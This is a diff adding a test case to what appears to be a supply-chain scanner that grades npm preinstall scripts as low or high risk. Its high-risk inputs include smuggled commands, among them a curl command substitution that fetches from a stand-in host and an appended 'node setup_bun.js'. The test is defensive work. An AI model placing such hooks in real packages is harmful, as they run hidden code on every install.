@@ -1510,6 +1510,16 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(severity('husky install $(node x.js)')).toEqual(['high']);
   });
 
+  it("keeps a preinstall that only guards the package manager (npx only-allow pnpm, pnpm's documented recipe) low; only-allow of anything else, or with more, high", () => {
+    const finding = (preinstall: string) =>
+      analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest' } }), pkg({ scripts: { test: 'vitest', preinstall } })))).findings.filter((f) => f.id === 'npm-install-script');
+    expect(finding('npx only-allow pnpm').map((f) => [f.severity, f.title])).toEqual([['low', 'New install script "preinstall" in package.json (a package-manager guard)']]);
+    expect(finding('only-allow yarn && husky').map((f) => f.severity)).toEqual(['low']);
+    expect(finding('npx only-allow pnpm && node setup_bun.js').map((f) => f.severity)).toEqual(['high']);
+    expect(finding('npx only-allow ./scripts/check.js').map((f) => f.severity)).toEqual(['high']);
+    expect(finding('npx only-allow pnpm $(curl -s https://example.test/x)').map((f) => f.severity)).toEqual(['high']);
+  });
+
   it("keeps a prepare script that only builds the package with its own compiler or bundler low; one that runs the repository's scripts or anything else high", () => {
     const finding = (prepare: string, extra: Record<string, string> = {}, before: Record<string, string> = {}) =>
       analyze(snapshotOf(change('package.json', pkg({ scripts: { test: 'vitest', ...before } }), pkg({ scripts: { test: 'vitest', prepare, ...extra } })))).findings.filter(
